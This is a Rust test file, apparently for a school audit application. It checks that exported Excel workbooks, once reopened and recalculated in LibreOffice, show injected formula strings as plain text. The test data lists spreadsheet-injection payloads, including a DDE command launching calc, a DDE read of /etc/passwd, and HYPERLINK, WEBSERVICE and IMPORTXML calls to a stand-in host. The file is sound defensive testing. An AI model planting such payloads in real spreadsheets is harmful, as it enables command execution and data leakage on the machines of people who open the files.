//! S35: what another program makes of our workbooks: `LibreOffice` opens them, works everything out anew, and shows
//! every hostile text as the text that it is.

use std::fs;
use std::path::Path;
use std::process::Command;

use axum::http::StatusCode;
use rust_xlsxwriter::{Formula, Workbook};

use crate::support::{Persona, Sample};

/// Texts that a spreadsheet program would take for more than a text if it were let.
const TEXTS: [&str; 28] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "'=1+1",
    "{=1+1}",
    "=1/0",
    "=HYPERLINK(\"http://x.example/?q=\"&A1,\"Click\")",
    "=cmd|'/C calc'!A0",
    "=DDE(\"soffice\";\"/etc/passwd\";\"x\")",
    "=WEBSERVICE(\"http://x.example/\")",
    "=IMPORTXML(\"http://x.example/\",\"//a\")",
    "http://x.example/",
    "mailto:x@x.example",
    "#REF!",
    "TRUE",
    "1",
    "1e5",
    "50%",
    "26/03/2027",
];

/// Works out every formula when a file is opened, whoever wrote it; as it is delivered `LibreOffice` shows what the
/// file says that the last program worked out.
const SETTINGS: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load">
<prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop>
</item>
</oor:items>
"#;

/// Every sheet as CSV in UTF-8, and quotation marks around texts alone: so a number or a result has none.
const AS_CSV: &str = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,-1";

fn is_there(program: &str) -> bool {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path).any(|folder| folder.join(program).is_file())
}

/// The sample with a hostile text in every field of a round's actions, of the school's plan and of two audits' answers,
/// and for organisations' names.
async fn with_hostile_texts() -> Sample {
    let sample = Sample::copy().await;
    sample
        .change(&["drop trigger submitted_texts_never_change", "drop trigger submitted_audit_keeps_its_organisation"])
        .await;
    let mut writing = sample.installation.store.writing().await.unwrap();
    for (text, n) in TEXTS.into_iter().zip(0_i64..) {
        for statement in [
            "update action set what = ?1, who = ?1, progress = ?1, impact = ?1 where id = \
             (select c.id from action c join audit a on a.id = c.audit_id join audit_round r on r.id = a.round_id \
              where r.slug = '2014' and c.organisation_id <> 22 order by c.id limit 1 offset ?2)",
            "update action set what = ?1, who = ?1, progress = ?1, impact = ?1 \
             where organisation_id = 22 and number = ?2 + 1",
            "update answer_text set evidence = ?1 where audit_id = 119 and question_id = \
             (select question_id from answer_text where audit_id = 119 order by question_id limit 1 offset ?2)",
            "update answer_text set evidence = ?1 where (audit_id, question_id) = \
             (select t.audit_id, t.question_id from answer_text t join audit a on a.id = t.audit_id \
              join audit_round r on r.id = a.round_id where r.slug = '2014' and a.organisation_id = 131 \
              order by t.question_id limit 1 offset ?2)",
            "update audit set organisation_name = ?1 where organisation_id = 30 + ?2 \
             and round_id = (select id from audit_round where slug = '2014')",
        ] {
            let changed = sqlx::query(statement).bind(text).bind(n).execute(&mut *writing).await.unwrap();
            assert_eq!(changed.rows_affected(), 1, "{statement}");
        }
    }
    writing.commit().await.unwrap();
    sample
}

/// A workbook with a formula, and with what another program is said to have worked out.
fn with_a_formula() -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet().set_name("Formula").unwrap();
    sheet.write_formula(0, 0, Formula::new("=1+1").set_result("7")).unwrap();
    book.save_to_buffer().unwrap()
}

/// Converts the workbooks of a folder, all in one run, with a profile of its own.
fn convert(folder: &Path, books: &[&str], to: &str) {
    let profile = folder.join("profile");
    fs::create_dir_all(profile.join("user")).unwrap();
    fs::write(profile.join("user/registrymodifications.xcu"), SETTINGS).unwrap();
    let mut soffice = Command::new("soffice");
    soffice.arg(format!("-env:UserInstallation=file://{}", profile.display()));
    soffice.args(["--headless", "--convert-to", to, "--outdir"]).arg(folder);
    soffice.args(books.iter().map(|book| folder.join(format!("{book}.xlsx")))).env("HOME", folder);
    let converted = soffice.output().unwrap();
    assert!(converted.status.success(), "{}", String::from_utf8_lossy(&converted.stderr));
}

/// Whether a cell of the sheet shows this, and as a text.
fn shows(sheet: &str, text: &str) -> bool {
    // A cell's line ends are line feeds.
    let cell = format!("\"{}\"", text.replace('\r', "\n").replace('"', "\"\""));
    [",", "\n"].iter().any(|end| sheet.contains(&format!(",{cell}{end}")))
}

#[tokio::test]
async fn s35_another_program_shows_every_hostile_text_as_text() {
    if !is_there("soffice") {
        println!("S35: not run: it needs LibreOffice (soffice)");
        return;
    }
    let sample = with_hostile_texts().await;
    let reviewer = sample.sign_in(Persona::Reviewer).await;
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("formula.xlsx"), with_a_formula()).unwrap();
    for (book, path) in [
        ("results", "/rounds/2014/results.xlsx"),
        ("answers", "/rounds/2014/answers.xlsx?form=partners"),
        ("plan", "/audits/119/action-plan.xlsx"),
    ] {
        let file = sample.get(path, &reviewer).await;
        assert_eq!(file.status, StatusCode::OK, "{path}");
        fs::write(folder.path().join(format!("{book}.xlsx")), &file.bytes).unwrap();
    }
    convert(folder.path(), &["formula", "results", "answers", "plan"], AS_CSV);
    let sheet = |name: &str| fs::read_to_string(folder.path().join(format!("{name}.csv"))).unwrap();
    // A formula would be worked out, and its result would stand there without quotation marks.
    assert_eq!(sheet("formula-Formula").trim_end(), "2");
    let plan = sheet("plan-Action plan") + &sheet("plan-Earlier rounds");
    for (name, sheet) in ["results-Actions register", "plan-Full record", "answers-All answers"]
        .map(|name| (name, sheet(name)))
        .into_iter()
        .chain([("plan", plan)])
    {
        for text in TEXTS {
            assert!(shows(&sheet, text), "{name} does not show {text:?}");
        }
    }
    let names = sheet("results-All answers");
    for text in TEXTS {
        assert!(shows(&names, text), "the name {text:?} is not shown");
    }
    // Nor is there anything that could not be worked out.
    let files = fs::read_dir(folder.path()).unwrap().map(|entry| entry.unwrap().path());
    let sheets: Vec<_> = files.filter(|file| file.extension().is_some_and(|extension| extension == "csv")).collect();
    assert!(sheets.len() > 10, "{sheets:?}");
    for file in sheets {
        let sheet = fs::read_to_string(&file).unwrap();
        assert!(!sheet.contains("#NAME?") && !sheet.contains("Err:"), "{}", file.display());
    }
}

#[tokio::test]
async fn a_long_text_is_printed_whole() {
    if !is_there("soffice") || !is_there("pdftotext") {
        println!("not run: it needs LibreOffice (soffice) and poppler (pdftotext)");
        return;
    }
    let sample = Sample::copy().await;
    let paragraphs: Vec<_> = (1..=100).map(|n| format!("P{n:03} {}", "and what it rests on ".repeat(4))).collect();
    let evidence = paragraphs.join("\r\n");
    assert!((8_500..=10_000).contains(&evidence.chars().count()), "{}", evidence.chars().count());
    sample.change(&["drop trigger submitted_texts_never_change"]).await;
    let mut writing = sample.installation.store.writing().await.unwrap();
    let statement = "update answer_text set evidence = ?1 where audit_id = 119 and question_id = \
                     (select min(question_id) from answer_text where audit_id = 119)";
    sqlx::query(statement).bind(&evidence).execute(&mut *writing).await.unwrap();
    writing.commit().await.unwrap();
    let lead = sample.sign_in(Persona::SchoolLead).await;
    let file = sample.get("/audits/119/action-plan.xlsx", &lead).await;
    assert_eq!(file.status, StatusCode::OK);
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("plan.xlsx"), &file.bytes).unwrap();
    convert(folder.path(), &["plan"], "pdf");
    let text = Command::new("pdftotext").arg(folder.path().join("plan.pdf")).arg("-").output().unwrap();
    let text = String::from_utf8(text.stdout).unwrap();
    let missing: Vec<_> = (1..=100).map(|n| format!("P{n:03}")).filter(|paragraph| !text.contains(paragraph)).collect();
    assert!(missing.is_empty(), "{missing:?}");
    assert!(text.contains("continued"), "the rows say that they go on");
}
